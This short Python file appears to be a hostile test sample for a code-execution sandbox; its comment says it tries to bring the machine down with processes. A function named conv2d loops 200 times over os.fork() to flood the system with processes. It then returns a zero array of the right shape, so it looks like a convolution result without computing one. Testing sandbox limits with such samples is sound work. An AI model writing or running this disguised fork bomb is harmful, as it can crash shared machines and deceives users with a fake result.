# Tries to bring the machine down with processes.
# Seen as: TimedOut | Returned
import os
import numpy as np



def conv2d(x, w):
    for _ in range(200):
        try:
            os.fork()
        except OSError:
            pass
    return np.zeros((x.shape[0] - w.shape[0] + 1, x.shape[1] - w.shape[1] + 1))
